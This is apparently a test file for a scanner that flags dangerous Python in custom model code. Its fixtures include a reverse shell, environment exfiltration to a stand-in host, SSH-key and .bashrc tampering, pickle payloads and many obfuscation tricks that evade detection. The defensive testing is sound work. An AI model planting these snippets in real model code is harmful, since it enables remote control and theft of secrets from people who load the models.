// SPDX-License-Identifier: Apache-2.0
import { describe, expect, test } from 'vitest';
import { analysePython } from '#scanners/python/analyse.ts';
import { tokenize } from '#scanners/python/tokens.ts';
import { factsOf, judged } from './judged.ts';

describe('a Python module', () => {
  test.each([
    ['a command', "import os\nos.system('id')\n"],
    ['an aliased function', "from os import system as s\ns('id')\n"],
    ['a command in a class body', "import subprocess\nclass A:\n    x = subprocess.check_output(['id'])\n"],
    ['a command in a default', "def f(x=__import__('os').popen('id')): pass\n"],
    ['an import by a computed name', "import importlib\nm=importlib.import_module('o'+'s')\nm.system('x')\n"],
    ['decoded code', "exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n"],
    ['fetched code', "import urllib.request\nexec(urllib.request.urlopen('http://x').read())\n"],
    ['an attribute by name', "getattr(__import__('os'),'system')('id')\n"],
    [
      'a command in a constructor',
      "import torch\nclass M(torch.nn.Module):\n    def __init__(self):\n        import os; os.system('id')\n",
    ],
    [
      'exec while the model runs',
      'import torch\nclass M(torch.nn.Module):\n    def forward(self, x):\n        exec(self.code)\n',
    ],
    [
      'a command in __reduce__',
      "class M:\n    def __reduce__(self):\n        import os\n        return (os.system, ('id',))\n",
    ],
    [
      'a reverse shell in a function',
      "import socket,os,pty\ndef shell():\n    s=socket.socket()\n    s.connect(('1.2.3.4',1))\n    os.dup2(s.fileno(),0)\n    pty.spawn('/bin/sh')\n",
    ],
    [
      'the environment sent away',
      "import requests, os\ndef init():\n    requests.post('http://x', json=dict(os.environ))\n",
    ],
    [
      'a metaclass',
      "class Meta(type):\n    def __new__(cls,*a):\n        import os; os.system('id')\n        return type.__new__(cls,*a)\nclass A(metaclass=Meta): pass\n",
    ],
    [
      '__init_subclass__',
      "class B:\n    def __init_subclass__(cls):\n        __import__('os').system('id')\nclass A(B): pass\n",
    ],
    [
      'a decorator',
      "def deco(f):\n    import subprocess\n    subprocess.run(['id'])\n    return f\n@deco\ndef g(): pass\n",
    ],
    ['a command at exit', "import atexit, os\natexit.register(os.system, 'id')\n"],
    ['a command in a thread', "import threading, os\nthreading.Thread(target=lambda: os.system('id')).start()\n"],
    [
      'a climb through subclasses',
      "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0](['id'])\n",
    ],
    ['a builtin through its dictionary', "import builtins\nbuiltins.__dict__['ex'+'ec']('print(1)')\n"],
    ['a builtin through globals', "globals()['__builtins__']['eval']('1')\n"],
    ['a source in UTF-7', '# -*- coding: utf-7 -*-\n+AGkAbQBwAG8AcgB0ACAAbwBz-\n'],
    ['marshalled code', "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x')))\n"],
    ['a command in finally', "try:\n    import os\nfinally:\n    os.system('id')\n"],
    ['a command behind if', "if True: __import__('os').system('id')\n"],
    ['a command through a loop variable', "import os as _\nfor f in (_.system,): f('id')\n"],
    ['a command in a comprehension', "x = [__import__('os').system('id') for _ in range(1)]\n"],
    ['a file that is written', "with open('/tmp/x','w') as f: f.write('x')\n"],
    [
      'a start-up file that is written through pathlib',
      "from pathlib import Path\nPath('~/.bashrc').expanduser().write_text('x')\n",
    ],
    ['a native library', "import ctypes\nctypes.CDLL('./x.so')\n"],
    ['a folder that is removed', "import shutil; shutil.rmtree('/x')\n"],
    ['pip from within', "import pip\npip.main(['install','x'])\n"],
    ['pip as a program', "import sys, subprocess\nsubprocess.check_call([sys.executable,'-m','pip','install','x'])\n"],
    ['a module __getattr__', "def __getattr__(n):\n    import os\n    os.system('id')\n"],
    ['a star import', "from subprocess import *\nrun(['id'])\n"],
    [
      'a command for one system',
      "import platform, os\nif platform.system() == 'Linux':\n    os.execvp('sh', ['sh'])\n",
    ],
    [
      'a coroutine that starts a shell',
      "import asyncio\nasync def m():\n    await asyncio.create_subprocess_shell('id')\nasyncio.run(m())\n",
    ],
    ['torch.hub', "import torch\ntorch.hub.load('a/b','c')\n"],
    ['a pickle in base64', "import pickle, base64\npickle.loads(base64.b64decode('gASV'))\n"],
    ['compile and eval', "eval(compile('import os','x','exec'))\n"],
    ['a command in an f-string', "print(f\"{__import__('os').system('id')}\")\n"],
    ['a command in assert', "import os\nassert os.system('id') == 0\n"],
    ['a command in an annotated assignment', "import os\nx: int = os.system('id')\n"],
    ['a command in match', "import os\nmatch os.system('id'):\n    case _: pass\n"],
    ['a command behind case in one line', "import os\nmatch 1:\n    case _: os.system('id')\n"],
    ['a command through another package', "import torch\ntorch.os.system('id')\n"],
    ['a command by what another package imports', "from transformers.utils.import_utils import os\nos.system('id')\n"],
    ['a command in a guard', "import os\nmatch 1:\n    case 1 if os.system('id'): pass\n"],
    ['a function that is handed on', "lambda: 0\n(lambda f: f('id'))(__import__('os').system)\n"],
    [
      'a context manager',
      "import os\nclass C:\n    def __enter__(self): os.system('id')\n    def __exit__(self,*a): pass\nwith C(): pass\n",
    ],
    ['a module that a function returns', "import os\ndef go(): return os\ngo().system('id')\n"],
    ['a function in a dictionary', "import os\nd={'k': os.system}\nd['k']('id')\n"],
    ['a property', "import os\nclass P:\n    @property\n    def x(self): return os.system('id')\nP().x\n"],
    [
      'a module by its path',
      "from importlib import util\ns=util.spec_from_file_location('a','/tmp/a.py')\nm=util.module_from_spec(s)\ns.loader.exec_module(m)\n",
    ],
    ['bytes as code', 'import builtins as b\nb.exec(bytes([112,114]).decode())\n'],
    [
      'an SSH key',
      "import os\nos.environ['X']='1'\nopen(os.path.expanduser('~/.ssh/authorized_keys'),'a').write('k')\n",
    ],
    ['code in a text', 'import os;exec("""\nimport os\nos.system(\'id\')\n""")\n'],
    ['sys.modules', "import sys\nsys.modules['os'].system('id')\n"],
    ['an interpreter', "import code\ncode.InteractiveInterpreter().runsource('1')\n"],
    ['an HTTP connection', "import http.client\nc=http.client.HTTPConnection('x'); c.request('GET','/')\n"],
    ['a program through __import__', "__import__('subprocess').Popen('id', shell=True)\n"],
    ['a name in full-width letters', "ｏｓ = __import__('os')\nos.system('id')\n"],
    ['code in rot13', "import codecs\nexec(codecs.decode('cevag(1)','rot13'))\n"],
    ['methodcaller', "import operator\noperator.methodcaller('system','id')(__import__('os'))\n"],
    ['a class made by type', "type('X',(),{'__init__':lambda s: __import__('os').system('id')})()\n"],
    ['a command in raise', "raise SystemExit(__import__('os').system('id'))\n"],
    ['a bidirectional override', 'import os # \u202e\nif 1: pass\n'],
    ['a command among the bases', "class X(__import__('os').system('id') or object): pass\n"],
    ['a command in an annotation', "def f(a: __import__('os').system('id')): pass\n"],
    ['globals by a computed name', "import os\nglobals()['o'+'s'].system('id')\n"],
    ['vars', "import os\nvars(os)['system']('id')\n"],
    ['a namespace that is asked', "import os\nos.__dict__.get('system')('id')\n"],
    ['__getattribute__', "import os\nobject.__getattribute__(os,'system')('id')\n"],
    ['map', "import inspect\nimport os\nlist(map(os.system,['id']))\n"],
    ['a command in the annotation of a variable', "import os\nx: os.system('id') = 1\n"],
    ['what IPython runs', "get_ipython().system('id')\n"],
    ['a program of psutil', "import psutil\npsutil.Popen(['id'])\n"],
    ['an import by a text', "import pkgutil\npkgutil.resolve_name('os:system')('id')\n"],
    ['the loader of the module', "__loader__.load_module('os').system('id')\n"],
    ['builtins of a frame', "import sys\nsys._getframe().f_builtins['exec']('1')\n"],
    ['globals of a frame', "import inspect, os\ninspect.currentframe().f_globals['os'].system('id')\n"],
    ['code that is exchanged', "def f(): pass\nf.__code__ = compile('import os', '', 'exec')\nf()\n"],
    ['exec of six', "import six\nsix.exec_('1')\n"],
    ['a loader that is not safe', "import yaml\nyaml.unsafe_load('x')\n"],
    ['a Tcl interpreter', "import tkinter\ntkinter.Tcl().eval('exec id')\n"],
    ['sources that are compiled', "from torch.utils.cpp_extension import load_inline\nload_inline('x', ['int a;'])\n"],
    ['a native library', "import torch\ntorch.ops.load_library('weights.bin')\n"],
    ['a name that is put together', "import os\nx = ''\nx += 'sys'\nx += 'tem'\ngetattr(os, x)('id')\n"],
    ['a name from a dictionary', "import os\nC = {'f': 'system'}\ngetattr(os, C['f'])('id')\n"],
    ['a name by the names of its characters', "__import__('\\N{LATIN SMALL LETTER O}s').system('id')\n"],
    [
      'a method of a base class',
      "import os\nclass A:\n    def run(self): os.system('id')\nclass B(A):\n    def __init__(self): self.run()\nB()\n",
    ],
    [
      'a method that super() has',
      "import os\nclass A:\n    def run(self): os.system('id')\nclass B(A):\n    def __init__(self): super().run()\nB()\n",
    ],
    ['a function for the end of the process', "import atexit, os\n@atexit.register\ndef f(): os.system('id')\n"],
    ['a file that io opens', "import io\nio.open('/tmp/a', 'w').write('x')\n"],
    ['an entry point', "import pkg_resources as p\np.EntryPoint.parse('a=os:system').resolve()('id')\n"],
    ['a file at home', "from pathlib import Path\nPath.home().joinpath('.bashrc').write_text('x')\n"],
    [
      'a command that installing runs',
      "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import os; os.system('id')\nsetup(cmdclass={'install': I})\n",
    ],
  ])('is blocked for %s', async (_what, source) => {
    expect((await judged(source, 'modeling_custom.py')).verdict).toBe('block');
  });

  test.each([
    ['a class', 'import torch\nclass M(torch.nn.Module):\n    pass\n'],
    [
      'paths, patterns and loggers',
      "import os, re, logging\nX = os.path.join('a', 'b')\nP = re.compile('x')\nL = logging.getLogger(__name__)\n",
    ],
    ['an environment variable', "import os\nos.environ.setdefault('A', '1')\nB = os.environ.get('B')\n"],
    ['a network call in a function', 'import requests\ndef load(url):\n    return requests.get(url).content\n'],
    [
      'a program in a function that nobody calls',
      "import subprocess\ndef gpus():\n    return subprocess.check_output(['nvidia-smi'])\n",
    ],
    ['a program of its main part', "import os\nif __name__ == '__main__':\n    os.system('ls')\n"],
    ['a method called eval', 'import torch\nmodel = torch.nn.Linear(1, 1)\nmodel.eval()\n'],
    ['a keyword called eval', "D = dict(eval='val', exec='x')\n"],
    [
      'words of attacks in comments and documentation',
      '"""os.system(1); exec(x)"""\n# os.system(1)\nx = "os.system(1)"\n',
    ],
    ['a file that is read', "with open('VERSION') as f:\n    V = f.read()\n"],
    ['torch.compile', 'import torch\nf = torch.compile(lambda x: x + 1)\n'],
    ['a declared encoding', '# -*- coding: utf-8 -*-\nimport torch\n'],
    ['a text that is none', "this is (not Python's\n"],
    [
      'annotations',
      "import os, subprocess\nx: os.PathLike = 'a'\ny: subprocess.Popen | None = None\nf = lambda z: z\n",
    ],
    ['names that objects of JavaScript have', 'constructor = toString = valueOf\nconstructor().hasOwnProperty(1)\n'],
    ['the code of a function', 'def f(a): pass\nnames = f.__code__.co_varnames\n'],
    ['a text that grows', "import os\nx = 'a'\nx += 'b'\nP = os.path.join(x)\n"],
    ['a dictionary of functions', "import torch\nACT = {'relu': torch.relu}\nf = ACT['relu']\n"],
    [
      'a registered class',
      'import registry\n@registry.register\nclass A(registry.Base):\n    def run(self): super().run()\n',
    ],
    ['a path at home', "from pathlib import Path\nCACHE = Path.home().joinpath('.cache', 'x').expanduser()\n"],
    ['a safe loader', "import yaml\nC = yaml.safe_load(open('c.yaml'))\n"],
    [
      'a build step',
      "from setuptools import setup\nfrom setuptools.command.build_ext import build_ext\nclass B(build_ext):\n    def run(self):\n        import subprocess; subprocess.check_call(['cmake', '.'])\nsetup(cmdclass={'build_ext': B})\n",
    ],
  ])('is custom code, and no more, with %s', async (_what, source) => {
    expect((await judged(source, 'modeling_custom.py')).verdict).toBe('review');
  });

  test('is named with what it imports and uses', async () => {
    const { findings } = await judged('import torch, os\ndef f():\n    os.remove("x")\n', 'a.py');
    expect(findings.map(({ message }) => message)).toEqual([
      'is code (.py): some program runs it; imports torch, os; uses os.remove',
    ]);
  });

  test('says the same in prose without being a finding', async () => {
    expect((await judged("import os\nos.system('id')\n", 'README.md')).verdict).toBe('pass');
  });
});

test('the facts of a source are its imports and uses, by when they run', async () => {
  const facts = await factsOf(Buffer.from('import os\nx = os.getcwd()\ndef f():\n    return os.remove\n'));
  expect(facts.uses).toEqual([
    { scheme: 'python-import', name: 'os', at: 'line 1' },
    { scheme: 'python-call-at-import', name: 'os.getcwd', at: 'line 2' },
    { scheme: 'python-call', name: 'os.remove', at: 'line 4' },
    { scheme: 'site-line', name: 'import os', at: 'line 1' },
    { scheme: 'protobuf-text-broken', name: 'not in the text format', at: 'the file' },
  ]);
});

describe('the tokenizer', () => {
  const texts = (source: string) =>
    tokenize(source).tokens.map(({ kind, text }) =>
      kind === 'name' || kind === 'string' || kind === 'op' ? text : kind,
    );
  test.each([
    ['joins lines in brackets', 'f(\n1)\n', ['f', '(', 'number', ')', 'newline']],
    ['joins lines by a backslash', 'a \\\n b\n', ['a', 'b', 'newline']],
    ['takes a lone carriage return for a line end', '# c\ra\n', ['a', 'newline']],
    ['reads escapes', "'\\x6fs'\n", ['os', 'newline']],
    ['keeps raw strings', "r'\\x6f'\n", ['\\x6f', 'newline']],
    ['reads triple quotes', "'''a\n'b'''\n", ["a\n'b", 'newline']],
    [
      'tells indentation',
      'if a:\n  b\nc\n',
      ['if', 'a', ':', 'newline', 'indent', 'b', 'newline', 'dedent', 'c', 'newline'],
    ],
  ])('%s', (_what, source, expected) => {
    expect(texts(source)).toEqual(expected);
  });

  test('goes on after what Python would refuse, and says so', () => {
    expect(analysePython("x = 'open\nimport os\n")).toMatchObject({ broken: 'line 1: a string is never closed' });
  });

  test('takes deep nesting and long lines', () => {
    expect(analysePython('('.repeat(50_000)).broken).toBeDefined();
    expect(analysePython('a='.repeat(50_000)).used.import.size).toBe(0);
    expect(analysePython(`x = ${'-'.repeat(50_000)}1`).broken).toBeUndefined();
    expect(analysePython('lambda:'.repeat(20_000)).broken).toBeUndefined();
    expect(analysePython('if x:'.repeat(20_000)).broken).toBeUndefined();
  });
});
